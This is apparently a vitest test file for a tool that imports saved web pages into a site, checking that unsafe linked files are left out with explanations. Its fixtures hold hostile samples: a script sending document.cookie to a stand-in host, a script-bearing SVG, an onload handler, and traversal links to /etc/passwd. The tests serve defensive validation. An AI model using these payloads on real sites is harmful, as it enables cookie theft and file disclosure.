import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readSavedFolder } from '../../../src/lib/import/folder.ts';
import { planImport } from '../../../src/lib/import/plan.ts';

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x49, 0x48, 0x44, 0x52]);

/** A saved folder: a contents page, two chapters, and the files the first chapter links to. */
function savedFolder(files: Record<string, string | Buffer>, links: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'saved-'));
  writeFileSync(
    join(dir, 'contents.html'),
    '<html><body><h1>Contents</h1><ul><li><a href="referrals.html">1.1 Referrals</a></li><li><a href="enquiries.html">1.2 Enquiries</a></li></ul></body></html>',
  );
  writeFileSync(join(dir, 'referrals.html'), `<html><body><main><h1>Referrals</h1><p>Make a referral.</p>${links}</main></body></html>`);
  writeFileSync(join(dir, 'enquiries.html'), '<html><body><main><h1>Enquiries</h1><p>Start an enquiry.</p></main></body></html>');
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return dir;
}

function importFolder(dir: string) {
  const planned = planImport(readSavedFolder(dir), { date: '2026-12-01', contentDir: 'm', publicDir: 'public', existing: new Set() });
  if ('refusals' in planned) throw new Error(JSON.stringify(planned.refusals));
  return planned;
}

describe('files the import copies into the site', () => {
  it('are only those the rule for published files allows; the others are named, with why', () => {
    const dir = savedFolder(
      {
        'files/steps.png': PNG,
        'files/chart.svg': '<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/2000/svg" href="run.js"/></svg>',
        'files/run.js': 'document.location = "https://a.example/?" + document.cookie;',
        'files/page.xht': '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="steal()"/></html>',
        'files/picture.htm.bak': PNG,
        'files/form.docx': Buffer.from('MZ this is a program'),
      },
      `<p><img src="files/steps.png" alt="Steps"/> <img src="files/chart.svg" alt="Chart"/></p>
       <p><a href="files/run.js">the script</a>, <a href="files/page.xht">a page</a>, <a href="files/picture.htm.bak">a picture</a>, <a href="files/form.docx">the form</a></p>`,
    );
    const planned = importFolder(dir);
    expect(planned.copies).toEqual([{ from: 'files/steps.png', to: 'public/imported/steps.png' }]);
    const body = planned.writes.find((w) => w.path.includes('/referrals/'))!.text;
    expect(body).toContain('[Image: Steps](/imported/steps.png)');
    expect(body).not.toMatch(/chart\.svg|run\.js|page\.xht|picture\.htm|form\.docx/);
    const leftOut = planned.warnings.filter((w) => w.kind === 'left-out').map((w) => w.message);
    expect(leftOut).toEqual([
      expect.stringMatching(/^the picture files\/chart\.svg holds <x:script> on line 1, which a published file may not have/),
      expect.stringMatching(/^"the script" links to files\/run\.js, which is not a kind of file the site publishes/),
      expect.stringMatching(/^"a page" links to files\/page\.xht, which is not a kind of file the site publishes/),
      expect.stringMatching(/^"a picture" links to files\/picture\.htm\.bak, which holds a PNG image but is named \.bak/),
      expect.stringMatching(/^"the form" links to files\/form\.docx, which is not a kind of file the site publishes/),
    ]);
  });

  it('name links that climb out of the saved folder as they were written', () => {
    const dir = savedFolder(
      {},
      '<p><a href="../../../etc/passwd">accounts</a>, <a href="../secret.txt">notes</a>, <a href="file:///home/board/minutes.pdf">minutes</a></p>',
    );
    const messages = importFolder(dir)
      .warnings.filter((w) => w.kind === 'link')
      .map((w) => w.message);
    expect(messages).toEqual([
      '"accounts" links to ../../../etc/passwd, outside the folder of saved pages: the link was removed and its words kept',
      '"notes" links to ../secret.txt, outside the folder of saved pages: the link was removed and its words kept',
      '"minutes" links to file:///home/board/minutes.pdf, outside the folder of saved pages: the link was removed and its words kept',
    ]);
  });
});
